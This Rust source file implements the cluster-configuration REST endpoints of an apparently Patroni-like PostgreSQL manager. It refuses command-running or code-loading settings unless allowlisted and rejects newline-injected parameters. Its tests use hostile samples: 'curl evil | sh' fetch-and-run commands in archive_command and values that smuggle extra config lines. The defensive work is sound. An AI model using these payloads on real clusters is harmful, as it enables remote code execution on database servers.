//! `PATCH /config` and `PUT /config`: change the cluster's dynamic configuration in the DCS.
//!
//! Both validate the resulting configuration (it must parse as [`DynamicConfig`] and pass
//! [`validate_dynamic`]) before writing anything. Beyond Patroni, both refuse (403) to set or
//! change a PostgreSQL setting that runs a shell command or loads code (`archive_command`,
//! `shared_preload_libraries`, …) unless this node's `restapi.allowed_command_parameters` lists
//! it: the REST API must not become a way to run arbitrary commands as the postgres user on
//! every node of the cluster.

use std::collections::BTreeMap;

use serde_json::{Map, Value};

use super::mutate::{read_cluster, Tuning};
use super::{ApiContext, Reply};
use crate::config::{validate_dynamic, DynamicConfig};
use crate::dcs::codec::to_compact_json;
use crate::dcs::Cas;

/// Python's `str()` of a scalar, near enough to compare a patch value with a stored one the way
/// Patroni does (`"5"` and `5` are the same setting).
fn scalar_text(v: &Value) -> Option<String> {
    match v {
        Value::String(s) => Some(s.clone()),
        Value::Number(n) => Some(n.to_string()),
        Value::Bool(b) => Some(b.to_string()),
        _ => None,
    }
}

/// True when `a` and `b` are the same setting: equal, or scalars with the same text.
fn same_value(a: &Value, b: &Value) -> bool {
    a == b || matches!((scalar_text(a), scalar_text(b)), (Some(x), Some(y)) if x == y)
}

/// `v` without any `null` object member, at any depth (a null in a patch means "absent").
pub fn strip_nulls(v: &Value) -> Value {
    match v {
        Value::Object(m) => Value::Object(
            m.iter()
                .filter(|(_, v)| !v.is_null())
                .map(|(k, v)| (k.clone(), strip_nulls(v)))
                .collect(),
        ),
        other => other.clone(),
    }
}

/// Merge `patch` into `target` recursively: a `null` deletes the key, an object is merged into
/// an object, anything else replaces the old value unless it is the same setting. Returns true
/// when `target` changed.
pub fn merge_patch(target: &mut Map<String, Value>, patch: &Map<String, Value>) -> bool {
    let mut changed = false;
    for (key, value) in patch {
        if value.is_null() {
            changed |= target.remove(key).is_some();
            continue;
        }
        match (target.get_mut(key), value) {
            (Some(Value::Object(old)), Value::Object(new)) => changed |= merge_patch(old, new),
            (Some(old), new) if same_value(old, new) => {}
            _ => {
                target.insert(key.clone(), strip_nulls(value));
                changed = true;
            }
        }
    }
    changed
}

/// True for a PostgreSQL setting that runs a shell command or loads code into the server.
pub fn is_command_parameter(name: &str) -> bool {
    let n = name.to_ascii_lowercase();
    n.ends_with("_command")
        || matches!(
            n.as_str(),
            "archive_library"
                | "shared_preload_libraries"
                | "local_preload_libraries"
                | "session_preload_libraries"
                | "dynamic_library_path"
                | "jit_provider"
        )
}

/// A command-running setting found in a configuration.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
struct CommandSetting {
    /// The key exactly as written, with its section for anything outside
    /// `postgresql.parameters` (`standby_cluster.restore_command`). Compared case-sensitively,
    /// so that a second spelling of a key (`ARCHIVE_COMMAND`) counts as a new setting and
    /// cannot hide behind an unchanged one.
    qualified: String,
    /// The setting's own name, lower-case (for the allowlist).
    bare: String,
}

/// Every command-running setting of `cfg` with its value: `postgresql.parameters` (and any
/// `postgresql.parameters_*` object), `postgresql.recovery_conf` and `standby_cluster`.
fn command_settings(cfg: &Value) -> BTreeMap<CommandSetting, Value> {
    let mut out = BTreeMap::new();
    let mut scan = |prefix: Option<String>, obj: &Map<String, Value>| {
        for (name, value) in obj {
            if value.is_null() || !is_command_parameter(name) {
                continue;
            }
            let qualified = match &prefix {
                Some(p) => format!("{p}.{name}"),
                None => name.clone(),
            };
            let bare = name.to_ascii_lowercase();
            out.insert(CommandSetting { qualified, bare }, value.clone());
        }
    };
    if let Some(pg) = cfg.get("postgresql").and_then(Value::as_object) {
        for (key, value) in pg {
            let Some(obj) = value.as_object() else {
                continue;
            };
            if key == "parameters" {
                scan(None, obj);
            } else if key.starts_with("parameters_") || key == "recovery_conf" {
                scan(Some(format!("postgresql.{key}")), obj);
            }
        }
    }
    if let Some(sc) = cfg.get("standby_cluster").and_then(Value::as_object) {
        scan(Some("standby_cluster".to_string()), sc);
    }
    out
}

/// The command-running settings that `new` sets or changes compared with `old` and that
/// `allowed` (matched case-insensitively, by bare or qualified name) does not list.
pub fn refused_command_parameters(old: &Value, new: &Value, allowed: &[String]) -> Vec<String> {
    let before = command_settings(old);
    let allowed: Vec<String> = allowed
        .iter()
        .map(|a| a.trim().to_ascii_lowercase())
        .collect();
    command_settings(new)
        .into_iter()
        .filter(|(k, v)| !before.get(k).is_some_and(|old| same_value(old, v)))
        .filter(|(k, _)| {
            !allowed.contains(&k.bare) && !allowed.contains(&k.qualified.to_ascii_lowercase())
        })
        .map(|(k, _)| k.qualified)
        .collect()
}

/// True for a syntactically valid GUC name: a letter or `_`, then letters, digits, `_`, `$`,
/// and `.` for extension settings (`pg_stat_statements.max`).
pub fn is_valid_guc_name(name: &str) -> bool {
    let mut chars = name.chars();
    chars
        .next()
        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        && chars.all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '$' | '.'))
}

/// The GUC sections of a configuration: `postgresql.parameters`, `postgresql.parameters_*`,
/// `postgresql.recovery_conf`, with their paths.
fn guc_sections(cfg: &Value) -> Vec<(String, &Map<String, Value>)> {
    cfg.get("postgresql")
        .and_then(Value::as_object)
        .into_iter()
        .flatten()
        .filter(|(k, _)| {
            k.as_str() == "parameters"
                || k.starts_with("parameters_")
                || k.as_str() == "recovery_conf"
        })
        .filter_map(|(k, v)| v.as_object().map(|o| (format!("postgresql.{k}"), o)))
        .collect()
}

/// Settings that `new` adds or changes in a GUC section with a name that is not a GUC name or
/// a string value holding a line break or NUL: either would break (or smuggle lines into)
/// `postgresql.conf`. Settings already stored unchanged are not judged again.
pub fn malformed_parameters(old: &Value, new: &Value) -> Vec<String> {
    let before: BTreeMap<String, &Map<String, Value>> = guc_sections(old).into_iter().collect();
    let mut bad = Vec::new();
    for (section, params) in guc_sections(new) {
        for (name, value) in params {
            let unchanged = before
                .get(&section)
                .and_then(|o| o.get(name))
                .is_some_and(|old| old == value);
            if unchanged || value.is_null() {
                continue;
            }
            let bad_value = value
                .as_str()
                .is_some_and(|t| t.contains(['\n', '\r', '\0']));
            if !is_valid_guc_name(name) || bad_value {
                bad.push(format!("{section}.{}", name.escape_debug()));
            }
        }
    }
    bad
}

/// All checks of a new configuration that are answered with 400, naming the problem.
fn check_new_config(old: &Value, new: &Value) -> Result<(), Reply> {
    validate_config(new).map_err(|e| Reply::text(400, e.to_string()))?;
    let bad = malformed_parameters(old, new);
    if !bad.is_empty() {
        return Err(Reply::text(
            400,
            format!(
                "invalid configuration: malformed PostgreSQL parameter name or value (line \
                 break) in {}",
                bad.join(", ")
            ),
        ));
    }
    Ok(())
}

/// 403 when `new` changes a command-running setting this node does not allow.
fn check_command_parameters(ctx: &ApiContext, old: &Value, new: &Value) -> Result<(), Reply> {
    let refused =
        refused_command_parameters(old, new, &ctx.restapi.current().allowed_command_parameters);
    if refused.is_empty() {
        return Ok(());
    }
    tracing::warn!(parameters = ?refused, "refused a configuration change through the REST API");
    Err(Reply::text(
        403,
        format!(
            "Refusing to set {} through the REST API: these settings run commands or load code \
             on every node. To allow it, list {} in restapi.allowed_command_parameters in the \
             local configuration of the node receiving the request, then reload it",
            refused.join(", "),
            if refused.len() == 1 { "it" } else { "them" },
        ),
    ))
}

/// Why a dynamic configuration written through the REST API is refused (answered with 400).
#[derive(Debug, thiserror::Error)]
pub enum InvalidConfig {
    /// A value of the wrong kind or out of its range.
    #[error("invalid configuration: {0}")]
    Strict(#[source] crate::config::limits::StrictError),
    /// Not a dynamic configuration.
    #[error("invalid configuration: {0}")]
    Parse(#[source] serde_json::Error),
    /// A value out of its bounds.
    #[error("invalid configuration: {0}")]
    Bounds(#[source] crate::config::DynamicError),
}

/// Parse and check a whole dynamic configuration; the error names the problem.
pub fn validate_config(v: &Value) -> Result<DynamicConfig, InvalidConfig> {
    if let Value::Object(m) = v {
        crate::config::limits::check_strict(m).map_err(InvalidConfig::Strict)?;
    }
    let cfg: DynamicConfig = serde_json::from_value(v.clone()).map_err(InvalidConfig::Parse)?;
    validate_dynamic(&cfg).map_err(InvalidConfig::Bounds)?;
    Ok(cfg)
}

/// `PATCH /config`: merge the body into the stored configuration and write it back with a CAS
/// on the version read. 200 with the merged configuration; 503 without a valid configuration in
/// the DCS; 400 when the result is invalid; 403 for a refused command setting; 409 when the key
/// changed meanwhile.
pub(crate) async fn patch_config(
    ctx: &ApiContext,
    tuning: &Tuning,
    patch: Map<String, Value>,
) -> Reply {
    let cluster = match read_cluster(ctx, tuning.dcs_timeout).await {
        Ok(c) => c,
        Err(r) => return r,
    };
    let Some(current) = cluster.config_raw else {
        return Reply::text(503, "No valid configuration in the DCS");
    };
    let Value::Object(mut merged) = current.value.clone() else {
        return Reply::text(503, "No valid configuration in the DCS");
    };
    if !merge_patch(&mut merged, &patch) {
        return Reply::json(200, Value::Object(merged));
    }
    let merged = Value::Object(merged);
    if let Err(r) = check_new_config(&current.value, &merged) {
        return r;
    }
    if let Err(r) = check_command_parameters(ctx, &current.value, &merged) {
        return r;
    }
    let Some(dcs) = &ctx.dcs else {
        return Reply::text(503, "DCS is not available");
    };
    match dcs
        .put(
            "config",
            &to_compact_json(&merged),
            Cas::Version(current.version),
        )
        .await
    {
        Ok(true) => {
            ctx.wake.notify_one();
            Reply::json(200, merged)
        }
        Ok(false) => Reply::text(
            409,
            "Config modification aborted: the configuration was changed concurrently; \
             nothing was written",
        ),
        Err(e) => Reply::text(503, format!("failed to write config into DCS: {e}")),
    }
}

/// `PUT /config`: replace the stored configuration by the body (written unconditionally, not at
/// all when identical). 200 with the body; 400/403 as for PATCH; 502 when the write failed.
pub(crate) async fn put_config(
    ctx: &ApiContext,
    tuning: &Tuning,
    body: Map<String, Value>,
) -> Reply {
    let new = Value::Object(body);
    if let Err(e) = validate_config(&new) {
        return Reply::text(400, e.to_string());
    }
    let cluster = match read_cluster(ctx, tuning.dcs_timeout).await {
        Ok(c) => c,
        Err(r) => return r,
    };
    let old = cluster
        .config_raw
        .as_ref()
        .map(|c| c.value.clone())
        .unwrap_or_else(|| Value::Object(Map::new()));
    if let Err(r) = check_new_config(&old, &new) {
        return r;
    }
    if let Err(r) = check_command_parameters(ctx, &old, &new) {
        return r;
    }
    if cluster.config_raw.is_some_and(|c| c.value == new) {
        return Reply::json(200, new);
    }
    let Some(dcs) = &ctx.dcs else {
        return Reply::text(503, "DCS is not available");
    };
    match dcs.put("config", &to_compact_json(&new), Cas::Any).await {
        Ok(true) => {
            ctx.wake.notify_one();
            Reply::json(200, new)
        }
        Ok(false) => Reply::text(502, "failed to write config into DCS"),
        Err(e) => Reply::text(502, format!("failed to write config into DCS: {e}")),
    }
}

#[cfg(test)]
mod tests {
    use std::sync::atomic::Ordering;

    use serde_json::json;

    use super::*;
    use crate::api::testutil::{call, context, restapi, MemDcs};
    use crate::api::ReplyBody;
    use crate::ha::state::NodeState;

    const CONFIG: &str = r#"{"ttl":30,"loop_wait":10,"retry_timeout":10,"postgresql":{"use_pg_rewind":true,"parameters":{"max_connections":100,"archive_command":"/bin/true","work_mem":"4MB"}}}"#;

    fn obj(v: Value) -> Map<String, Value> {
        v.as_object().unwrap().clone()
    }

    fn setup() -> (ApiContext, std::sync::Arc<MemDcs>) {
        let dcs = MemDcs::new();
        dcs.set("config", CONFIG);
        let (ctx, tx) = context(
            NodeState::new("pg0", "demo", ""),
            Some(dcs.clone()),
            restapi(None),
        );
        std::mem::forget(tx);
        (ctx, dcs)
    }

    fn stored(dcs: &MemDcs) -> Value {
        serde_json::from_str(&dcs.get("config").unwrap()).unwrap()
    }

    #[test]
    fn merge_with_null_deletes() {
        let mut cfg = obj(json!({
            "ttl": 30, "pause": true,
            "postgresql": {"parameters": {"a": 1, "b": "x"}, "use_slots": true},
        }));
        let changed = merge_patch(
            &mut cfg,
            &obj(json!({
                "pause": null, "missing": null, "ttl": "30",
                "postgresql": {"parameters": {"a": null, "c": 3}},
                "standby_cluster": {"host": "h", "port": null},
            })),
        );
        assert!(changed);
        assert_eq!(
            Value::Object(cfg.clone()),
            json!({
                "ttl": 30,
                "postgresql": {"parameters": {"b": "x", "c": 3}, "use_slots": true},
                "standby_cluster": {"host": "h"},
            })
        );
        // Same values (also "30" for 30) and deletes of absent keys change nothing.
        assert!(!merge_patch(
            &mut cfg,
            &obj(json!({"ttl": "30", "nothing": null, "postgresql": {"use_slots": true}}))
        ));
        // An object replaces a scalar and vice versa.
        assert!(merge_patch(&mut cfg, &obj(json!({"ttl": {"x": 1}}))));
        assert_eq!(cfg["ttl"], json!({"x": 1}));
    }

    #[test]
    fn command_parameter_detection() {
        for p in [
            "archive_command",
            "RESTORE_COMMAND",
            "archive_cleanup_command",
            "recovery_end_command",
            "ssl_passphrase_command",
            "foo_command",
            "archive_library",
            "shared_preload_libraries",
            "local_preload_libraries",
            "session_preload_libraries",
        ] {
            assert!(is_command_parameter(p), "{p}");
        }
        for p in [
            "work_mem",
            "archive_mode",
            "command_timeout",
            "shared_buffers",
        ] {
            assert!(!is_command_parameter(p), "{p}");
        }
        let old = json!({"postgresql": {"parameters": {"archive_command": "/bin/true"}}});
        let same = json!({"postgresql": {"parameters": {"archive_command": "/bin/true", "work_mem": "8MB"}}});
        assert!(refused_command_parameters(&old, &same, &[]).is_empty());
        let removed = json!({"postgresql": {"parameters": {}}});
        assert!(refused_command_parameters(&old, &removed, &[]).is_empty());
        let changed = json!({
            "postgresql": {
                "parameters": {"archive_command": "curl evil | sh", "shared_preload_libraries": "x"},
                "parameters_primary": {"Restore_Command": "y"},
                "recovery_conf": {"restore_command": "z"},
            },
            "standby_cluster": {"host": "h", "restore_command": "cp %f %p"},
        });
        assert_eq!(
            refused_command_parameters(&old, &changed, &[]),
            [
                "archive_command",
                "postgresql.parameters_primary.Restore_Command",
                "postgresql.recovery_conf.restore_command",
                "shared_preload_libraries",
                "standby_cluster.restore_command",
            ]
        );
        let allowed = vec![
            "ARCHIVE_COMMAND".to_string(),
            "restore_command".to_string(),
            "shared_preload_libraries".to_string(),
        ];
        assert!(refused_command_parameters(&old, &changed, &allowed).is_empty());
        // A second spelling of an unchanged key is a new setting.
        let masked = json!({"postgresql": {"parameters": {
            "archive_command": "/bin/true", "ARCHIVE_COMMAND": "curl evil | sh"}}});
        assert_eq!(
            refused_command_parameters(&old, &masked, &[]),
            ["ARCHIVE_COMMAND"]
        );
        let only_standby = vec!["standby_cluster.restore_command".to_string()];
        let standby = json!({"standby_cluster": {"restore_command": "cp %f %p"}});
        assert!(refused_command_parameters(&json!({}), &standby, &only_standby).is_empty());
        let plain = json!({"postgresql": {"parameters": {"restore_command": "cp %f %p"}}});
        assert_eq!(
            refused_command_parameters(&json!({}), &plain, &only_standby),
            ["restore_command"]
        );
    }

    #[test]
    fn malformed_parameter_names_and_values() {
        for ok in ["work_mem", "_x", "pg_stat_statements.max", "a$b"] {
            assert!(is_valid_guc_name(ok), "{ok}");
        }
        for bad in ["", "1abc", "a b", "x = 1\narchive_command", "a-b", "é"] {
            assert!(!is_valid_guc_name(bad), "{bad}");
        }
        let old = json!({"postgresql": {"parameters": {"legacy key": 1}}});
        let new = json!({"postgresql": {
            "parameters": {
                "legacy key": 1,
                "archive_mode = on\nwork_mem": "4MB",
                "work_mem": "4MB'\narchive_command = 'x",
                "ok_one": "fine",
            },
            "recovery_conf": {"bad name": "x"},
        }});
        assert_eq!(
            malformed_parameters(&old, &new),
            [
                "postgresql.parameters.archive_mode = on\\nwork_mem",
                "postgresql.parameters.work_mem",
                "postgresql.recovery_conf.bad name",
            ]
        );
    }

    #[tokio::test]
    async fn patch_refuses_malformed_parameters() {
        let (ctx, dcs) = setup();
        let v = dcs.version("config");
        let body = json!({"postgresql": {"parameters": {
            "archive_mode = on\narchive_command = 'x'\nwork_mem": "4MB"}}});
        let r = call(&ctx, "PATCH", "/config", Some(&body.to_string())).await;
        assert_eq!(r.status, 400, "{}", r.message());
        assert!(
            r.message().contains("malformed PostgreSQL parameter"),
            "{}",
            r.message()
        );
        assert_eq!(dcs.version("config"), v);
    }

    #[tokio::test]
    async fn patch_merges_writes_and_wakes() {
        let (ctx, dcs) = setup();
        let version = dcs.version("config").unwrap();
        let wake = ctx.wake.clone();
        let r = call(
            &ctx,
            "PATCH",
            "/config",
            Some(r#"{"ttl": 20, "pause": true, "postgresql": {"parameters": {"work_mem": null, "max_connections": 200}}}"#),
        )
        .await;
        assert_eq!(r.status, 200, "{}", r.message());
        let want = json!({
            "ttl": 20, "loop_wait": 10, "retry_timeout": 10, "pause": true,
            "postgresql": {"use_pg_rewind": true,
                           "parameters": {"max_connections": 200, "archive_command": "/bin/true"}},
        });
        assert_eq!(r.body, ReplyBody::Json(want.clone()));
        assert_eq!(stored(&dcs), want);
        assert!(dcs.version("config").unwrap() > version);
        // The loop was woken.
        tokio::time::timeout(std::time::Duration::from_secs(1), wake.notified())
            .await
            .unwrap();
        // A no-op patch writes nothing.
        let v = dcs.version("config");
        let r = call(&ctx, "PATCH", "/config", Some(r#"{"ttl": 20}"#)).await;
        assert_eq!(r.status, 200);
        assert_eq!(dcs.version("config"), v);
    }

    #[tokio::test]
    async fn patch_errors() {
        // No DCS at all: 503.
        let (ctx, _tx) = context(NodeState::new("pg0", "demo", ""), None, restapi(None));
        assert_eq!(call(&ctx, "PATCH", "/config", Some("{}")).await.status, 503);

        // No config key: 503.
        let dcs = MemDcs::new();
        let (ctx, _tx) = context(
            NodeState::new("pg0", "demo", ""),
            Some(dcs.clone()),
            restapi(None),
        );
        let r = call(&ctx, "PATCH", "/config", Some(r#"{"ttl": 20}"#)).await;
        assert_eq!(
            (r.status, r.message()),
            (503, "No valid configuration in the DCS")
        );
        dcs.set("config", "not json");
        assert_eq!(
            call(&ctx, "PATCH", "/config", Some(r#"{"ttl": 20}"#))
                .await
                .status,
            503
        );

        // Invalid results: 400 naming the problem; nothing written.
        dcs.set("config", CONFIG);
        let v = dcs.version("config");
        let r = call(&ctx, "PATCH", "/config", Some(r#"{"ttl": 2}"#)).await;
        assert_eq!(r.status, 400);
        assert!(r.message().contains("ttl"), "{}", r.message());
        let r = call(&ctx, "PATCH", "/config", Some(r#"{"loop_wait": "often"}"#)).await;
        assert_eq!(r.status, 400);
        assert!(
            r.message().starts_with("invalid configuration"),
            "{}",
            r.message()
        );
        // A standby_cluster section that could not be used.
        let r = call(
            &ctx,
            "PATCH",
            "/config",
            Some(r#"{"standby_cluster": {"host": "h", "port": 0}}"#),
        )
        .await;
        assert_eq!(r.status, 400);
        assert!(
            r.message().contains("standby_cluster.port"),
            "{}",
            r.message()
        );
        assert_eq!(dcs.version("config"), v);

        // Read failure: 503; write failure: 503.
        dcs.fail_reads.store(true, Ordering::SeqCst);
        assert_eq!(
            call(&ctx, "PATCH", "/config", Some(r#"{"ttl": 25}"#))
                .await
                .status,
            503
        );
        dcs.fail_reads.store(false, Ordering::SeqCst);
        dcs.fail_writes.store(true, Ordering::SeqCst);
        let r = call(&ctx, "PATCH", "/config", Some(r#"{"ttl": 25}"#)).await;
        assert_eq!(r.status, 503);
        assert!(r.message().starts_with("failed to write config"));
    }

    #[tokio::test]
    async fn patch_cas_conflict_is_409() {
        let (ctx, dcs) = setup();
        // A concurrent writer changes the key right after our read.
        *dcs.bump_after_read.lock().unwrap() = Some("config".into());
        let before = dcs.get("config");
        let r = call(&ctx, "PATCH", "/config", Some(r#"{"ttl": 50}"#)).await;
        assert_eq!(r.status, 409, "{}", r.message());
        assert!(r.message().contains("concurrently"));
        assert_eq!(dcs.get("config"), before, "nothing written");
    }

    #[tokio::test]
    async fn command_parameters_are_refused_unless_allowed() {
        let (ctx, dcs) = setup();
        let v = dcs.version("config");
        let body = r#"{"postgresql": {"parameters": {"archive_command": "curl http://x | sh"}}}"#;
        let r = call(&ctx, "PATCH", "/config", Some(body)).await;
        assert_eq!(r.status, 403);
        assert!(r.message().contains("archive_command"), "{}", r.message());
        assert!(
            r.message().contains("restapi.allowed_command_parameters"),
            "{}",
            r.message()
        );
        assert_eq!(dcs.version("config"), v, "nothing written");
        // Unchanged command settings and other settings pass.
        let r = call(
            &ctx,
            "PATCH",
            "/config",
            Some(r#"{"postgresql": {"parameters": {"archive_command": "/bin/true", "work_mem": "8MB"}}}"#),
        )
        .await;
        assert_eq!(r.status, 200);
        // standby_cluster.restore_command via PUT.
        let put = r#"{"ttl": 30, "standby_cluster": {"host": "h", "restore_command": "x"}}"#;
        let r = call(&ctx, "PUT", "/config", Some(put)).await;
        assert_eq!(r.status, 403);
        assert!(r.message().contains("standby_cluster.restore_command"));
        // Allowed on this node once the settings are replaced (as a reload does).
        let allowed = ctx.clone();
        let mut restapi = (*ctx.restapi.current()).clone();
        restapi.allowed_command_parameters =
            vec!["archive_command".into(), "restore_command".into()];
        ctx.restapi.replace(restapi);
        let r = call(&allowed, "PATCH", "/config", Some(body)).await;
        assert_eq!(r.status, 200);
        assert_eq!(
            stored(&dcs)["postgresql"]["parameters"]["archive_command"],
            "curl http://x | sh"
        );
        assert_eq!(
            call(&allowed, "PUT", "/config", Some(put)).await.status,
            200
        );
    }

    #[tokio::test]
    async fn put_replaces_skips_identical_and_reports_failures() {
        let (ctx, dcs) = setup();
        let body = r#"{"ttl": 25, "loop_wait": 5, "retry_timeout": 5, "postgresql": {"parameters": {"archive_command": "/bin/true"}}}"#;
        let r = call(&ctx, "PUT", "/config", Some(body)).await;
        assert_eq!(r.status, 200, "{}", r.message());
        let want: Value = serde_json::from_str(body).unwrap();
        assert_eq!(r.body, ReplyBody::Json(want.clone()));
        assert_eq!(stored(&dcs), want);
        // Identical: no write.
        let v = dcs.version("config");
        assert_eq!(call(&ctx, "PUT", "/config", Some(body)).await.status, 200);
        assert_eq!(dcs.version("config"), v);
        // Invalid: 400, checked before the DCS.
        let r = call(&ctx, "PUT", "/config", Some(r#"{"retry_timeout": 0}"#)).await;
        assert_eq!(r.status, 400);
        assert!(r.message().contains("retry_timeout"));
        // Write failure: 502.
        dcs.fail_writes.store(true, Ordering::SeqCst);
        let r = call(&ctx, "PUT", "/config", Some(r#"{"ttl": 40}"#)).await;
        assert_eq!(r.status, 502);
        // Without a DCS: 503.
        let (no_dcs, _tx) = context(NodeState::new("pg0", "demo", ""), None, restapi(None));
        assert_eq!(
            call(&no_dcs, "PUT", "/config", Some(r#"{"ttl": 40}"#))
                .await
                .status,
            503
        );
    }
}
